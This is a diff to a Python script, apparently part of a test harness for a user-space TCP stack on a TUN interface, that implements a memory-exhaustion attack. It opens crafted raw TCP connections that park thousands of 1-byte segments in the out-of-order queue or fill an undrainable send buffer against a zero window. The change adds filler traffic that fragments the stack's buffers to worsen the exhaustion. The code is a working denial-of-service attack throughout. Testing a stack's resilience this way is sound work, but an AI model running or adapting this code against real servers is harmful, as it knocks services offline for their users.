@@ -1,10 +1,13 @@
 """memory.py — hand-made connections that make the stack hold many 1-byte segments (attack 2).
 
-  memory.py ooo --conns 4 --segments 512 [--dport 80] [--ifname tunstack0] [--dst 10.77.0.2]
+  memory.py ooo --conns 4 --segments 512 [--filler BYTES] [--dport 80] [--ifname tunstack0] [--dst 10.77.0.2]
       each connection (from 10.77.1.10, .11, ...) completes the handshake, then sends SEGMENTS 1-byte
       segments at ISN+2, ISN+4, ...: the byte at ISN+1 never comes, so nothing can be delivered and
-      every segment waits in the out-of-order queue (RFC 9293 §3.10.7.4 lets a receiver keep them).
-  memory.py inorder --segments 2048 [--dport 7] [--window 0] ...
+      every segment waits in the out-of-order queue (RFC 9293 §3.10.7.4: segments beyond RCV.NXT
+      "SHOULD be held for later processing"). After each, BYTES of other traffic (1500-byte datagrams
+      the stack reads and drops), as on a busy server: the held segments then lie far apart in the
+      stack's read buffers instead of side by side.
+  memory.py inorder --segments 2048 [--dport 7] [--window 0] [--filler BYTES] ...
       one connection sends SEGMENTS 1-byte segments in order, advertising WINDOW: to the echo port with
       a zero window, every byte is read and written back into a send buffer that can never drain.
 
@@ -17,6 +20,7 @@ holds what it holds until the script that called this stops it.
 import argparse
 import json
 import os
+import struct
 import sys
 import time
 
@@ -24,8 +28,22 @@ sys.path.insert(0, os.path.dirname(__file__))
 import rawtcp  # noqa: E402
 
 
+FILLER_SRC = rawtcp.ip_bytes("10.77.1.200")
+FILLER_DST = "10.77.0.99"  # on the TUN's link but not the stack's address: read, then dropped
+
+
+def filler_packets(nbytes):
+    """Packets of other traffic: 1500-byte IPv4 datagrams (protocol 253, RFC 3692 experimentation)
+    to an address on the link that is not the stack's, which reads them and drops them."""
+    n = (nbytes + 1499) // 1500
+    pkt = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1500, 0, 0x4000, 64, 253, 0, FILLER_SRC,
+                      rawtcp.ip_bytes(FILLER_DST)) + bytes(1480)
+    return [pkt] * n
+
+
 def ooo(a, raw, sn):
     sent = acks = confirmed = 0
+    filler = filler_packets(a.filler)
     t0 = time.monotonic()
     for i in range(a.conns):
         c = rawtcp.Client(raw, sn, "10.77.1.%d" % (10 + i), 40000 + i, a.dst, a.dport)
@@ -36,6 +54,8 @@ def ooo(a, raw, sn):
             batch = min(a.batch, a.segments - k)
             for j in range(batch):
                 c.send(rawtcp.ACK | rawtcp.PSH, seq=base + 2 * (k + j), payload=b"x")
+                for f in filler:
+                    raw.send(f, FILLER_DST)
             sent += batch
             k += batch
             # RFC 5681 §4.2: out-of-order segments are ACKed at once (a duplicate ACK; the stack sends
@@ -61,6 +81,10 @@ def inorder(a, raw, sn):
     start = c.snd_nxt
     # To the HTTP port the bytes are a request line that never ends: "GET /aaaa..."
     text = (b"GET /" if a.dport == 80 else b"") + b"a" * a.segments
+    filler = filler_packets(a.filler)
+    # Unacknowledged segments at most: with other traffic after each, few enough that all of it fits
+    # the TUN's queue (500 packets), or the kernel drops some and the go-back below costs a second.
+    max_out = 64 if not filler else max(1, 384 // (len(filler) + 1))
     t0 = time.monotonic()
     deadline = t0 + a.max_seconds
     acked = 0  # bytes the stack has acknowledged
@@ -68,8 +92,10 @@ def inorder(a, raw, sn):
     sent = acks = resends = 0
     last_progress = time.monotonic()
     while acked < a.segments and time.monotonic() < deadline:
-        if nxt < a.segments and nxt - acked < 64:
+        if nxt < a.segments and nxt - acked < max_out:
             c.send(rawtcp.ACK | rawtcp.PSH, seq=start + nxt, window=a.window, payload=text[nxt:nxt + 1])
+            for f in filler:
+                raw.send(f, FILLER_DST)
             nxt += 1
             sent += 1
         # A gap between segments, so the stack reads each one on its own (one TUN read each).
@@ -95,14 +121,16 @@ def main():
     p.add_argument("--dport", type=int, default=80)
     p.add_argument("--window", type=int, default=0)
     p.add_argument("--batch", type=int, default=1, help="ooo: segments sent before waiting for their SACK")
+    p.add_argument("--filler", type=int, default=0, help="bytes of other traffic after each segment")
     p.add_argument("--gap-us", type=int, default=300, help="inorder: pause between segments")
     p.add_argument("--dst", default="10.77.0.2")
     p.add_argument("--ifname", default="tunstack0")
     p.add_argument("--max-seconds", type=float, default=60)
     a = p.parse_args()
     if (not 1 <= a.conns <= 200 or not 1 <= a.segments <= 100000 or not 0 <= a.window <= 65535
-            or not 1 <= a.batch <= 1024 or not 0 <= a.gap_us <= 100000):
-        p.error("--conns 1..200, --segments 1..100000, --window 0..65535, --batch 1..1024, --gap-us 0..100000")
+            or not 1 <= a.batch <= 1024 or not 0 <= a.gap_us <= 100000 or not 0 <= a.filler <= 1 << 20):
+        p.error("--conns 1..200, --segments 1..100000, --window 0..65535, --batch 1..1024, --gap-us 0..100000, "
+                "--filler 0..1048576")
     raw, sn = rawtcp.Raw(), rawtcp.Sniffer(a.ifname)
     try:
         r = ooo(a, raw, sn) if a.mode == "ooo" else inorder(a, raw, sn)
